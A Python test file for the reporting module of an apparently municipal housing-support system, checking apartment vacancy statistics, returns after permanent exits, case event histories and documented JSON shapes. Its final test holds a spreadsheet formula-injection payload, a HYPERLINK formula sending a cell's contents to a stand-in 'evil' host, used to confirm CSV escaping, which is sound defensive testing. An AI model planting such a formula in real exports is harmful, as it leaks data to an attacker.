    # A1 taken over; A2 A4 A6 A7 occupied; A3 returned; A5 (vacated 09-15) and A8 vacant
    assert result["status"] == {"occupied": 4, "returned": 1, "taken_over": 1, "vacant": 2}
    # vacated: A2 (2025-10-12, let again 11-01), A3 (2026-08-10, returned 09-01), A5
    # (2026-09-15, still vacant) → 1 let again of 3 = 0.333
    assert (result["vacated"], result["relet"], result["reuse_rate"]) == (3, 1, 0.333)
    # spells until let (or until 12-31 when still vacant); A3's vacated spell ended in a
    # return and is left out. From registration: A1 02-20→03-11 = 19, A2 03-20→04-12 = 23,
    # A3 09-01→09-20 = 19, A4 04-01→04-30 = 29, A5 04-01→05-01 = 30, A6 07-01→08-20 = 50,
    # A7 06-20→07-01 = 11, A8 10-01→12-31 = 91; from vacating: A2 10-12→11-01 = 20,
    # A5 09-15→12-31 = 107. Sorted 11 19 19 20 23 29 30 50 91 107: mean 399/10 = 39.9,
    # median (23+29)/2 = 26, p90: position 0.9·9 = 8.1 → 91 + 0.1·(107−91) = 92.6
    assert result["vacant_days"] == stats(10, 39.9, 26.0, 92.6)


def test_stock_as_of_a_past_date_counts_only_the_vacancy_up_to_that_date(view):
    result = reports.stock(view, d("2026-06-30"))
    # spells begun by 2026-06-30, cut at that day: A1 19, A2 23, A2 (vacated) 20, A3 19,
    # A4 29, A5 30, A7 06-20→06-30 = 10 (let only 07-01); A6 (07-01), A8 (10-01) and A5's
    # second spell (09-15) had not begun. Sorted 10 19 19 20 23 29 30: mean 150/7 = 21.4,
    # median 20, p90: position 0.9·6 = 5.4 → 29 + 0.4·(30−29) = 29.4
    assert result["vacant_days"] == stats(7, 21.4, 20.0, 29.4)


def test_returns_counts_new_applications_within_6_12_24_months_of_a_permanent_exit(view):
    result = reports.returns(view)
    # c02 own housing 2025-10-12, client k-2 never applied again;
    # c01 first-hand lease 2026-07-05, client k-1 applied again 2027-03-01 (c11): after
    # 2027-01-05 (6 months), on or before 2027-07-05 (12 months) and 2028-07-05 (24 months)
    assert result["rows"] == [
        {"case": "c02", "client": "k-2", "exit_on": "2025-10-12", "destination": "own_housing",
         "returned_case": None, "applied_on": None, "within_6_months": False,
         "within_12_months": False, "within_24_months": False},
        {"case": "c01", "client": "k-1", "exit_on": "2026-07-05",
         "destination": "first_hand_lease", "returned_case": "c11", "applied_on": "2027-03-01",
         "within_6_months": False, "within_12_months": True, "within_24_months": True},
    ]
    assert {k: v for k, v in result.items() if k != "rows"} == {
        "exits_to_permanent_housing": 2, "returned_within_6_months": 0,
        "returned_within_12_months": 1, "returned_within_24_months": 1}
    # --from/--to filter on the exit date
    assert [r["case"] for r in reports.returns(view, d("2026-01-01"))["rows"]] == ["c01"]


def test_case_history_lists_every_event_with_effective_date_recorded_time_actor_command(app):
    rows = reports.case_history(app, "c07")["rows"]
    assert [(r["version"], r["event"], r["on"], r["actor"], r["command_id"]) for r in rows] == [
        (1, "Applied", "2026-01-05", "cw-anna", "c07-1"),
        (2, "AssessmentStarted", "2026-01-06", "cw-anna", "c07-2"),
        (3, "Granted", "2026-01-31", "cw-anna", "c07-3"),
        (4, "CourseSessionAttended", "2026-02-10", "cw-anna", "c07-4"),
        (5, "CourseSessionAttended", "2026-02-17", "cw-anna", "c07-5"),
        (6, "Offered", "2026-04-25", "cw-anna", "c07-6"),
        (7, "LandlordApproved", "2026-04-27", "Framtiden", "c07-7"),
        (8, "MovedIn", "2026-05-01", "cw-anna", "c07-8"),
        (9, "VisitRecorded", "2026-07-10", "bolots-berit", "c07-9"),
        (10, "RentArrearsRecorded", "2026-08-01", "cw-anna", "c07-10"),
        (11, "Exited", "2026-09-15", "cw-anna", "c07-11"),
    ]
    recorded = [r["recorded"] for r in rows]
    assert all(recorded) and recorded == sorted(recorded)  # when it was written, not effective
    assert rows[2]["details"] == {"programme": "training_apartment"}
    assert rows[10]["details"] == {"destination": "terminated", "apartment": "A5"}
    with pytest.raises(reports.ReportError):
        reports.case_history(app, "no-such-case")


# --- the JSON shapes docs/metrics.md shows -------------------------------------------------

DOC = Path(__file__).parent.parent / "docs" / "metrics.md"


def shape(value: Any) -> Any:
    """Keys all the way down (a list by its first item), so examples can be abbreviated."""
    if isinstance(value, dict):
        return {k: shape(v) for k, v in value.items()}
    if isinstance(value, list):
        return [shape(value[0])] if value else []
    return None


def documented_examples() -> dict[str, Any]:
    """`<!-- json: NAME -->` followed by a ```json block in docs/metrics.md."""
    examples, name, block = {}, None, None
    for line in DOC.read_text(encoding="utf-8").splitlines():
        if line.startswith("<!-- json: "):
            name = line.removeprefix("<!-- json: ").removesuffix(" -->").strip()
        elif line.strip() == "```json" and name:
            block = []
        elif line.strip() == "```" and block is not None:
            examples[name] = json.loads("\n".join(block))
            name, block = None, None
        elif block is not None:
            block.append(line)
    return examples


def test_the_json_examples_in_docs_metrics_md_have_the_reports_shapes(view, app):
    answers = {
        "waiting-times": reports.waiting_times(view, "decision-to-move-in", "target-group",
                                               as_of=d("2027-06-30")),
        "throughput": reports.throughput(view, "quarter", d("2025-10-01"), d("2025-12-31")),
        "queue": reports.queue(view, d("2026-06-30"), "district"),
        "ivo": reports.ivo(view, "2026Q3"),
        "caseload": reports.caseload(view, d("2026-12-31"), POLICY),
        "arrears": reports.arrears(view),
        "stock": reports.stock(view, d("2026-12-31")),
        "returns": reports.returns(view),
        "history": reports.case_history(app, "c07"),
        "refusals": reports.refusals(view),
        "by-name": reports.by_name(view, POLICY, "quarter"),
    }
    examples = documented_examples()
    assert sorted(examples) == sorted(answers)
    for name, answer in answers.items():
        json.dumps(answer)  # what `report NAME --json` prints
        example = examples[name]
        if name == "throughput":  # exits are keyed by destination: compare the fixed keys
            for row in (*example["rows"], *answer["rows"]):
                row["exits"] = {}
        if name == "history":  # details are the event's own fields
            for row in (*example["rows"], *answer["rows"]):
                row["details"] = {}
        assert shape(example) == shape(answer), name


def test_typed_text_a_spreadsheet_would_run_as_a_formula_is_kept_as_text_in_a_csv():
    from application.reporting import csv_text

    text = csv_text([{"note": '=HYPERLINK("http://evil/"&A1,"click")', "days": -3,
                      "who": "@pilot", "plain": "a visit"}])
    header, row = text.splitlines()
    assert row.startswith("\"'=HYPERLINK(") and ",-3,'@pilot,a visit" in row
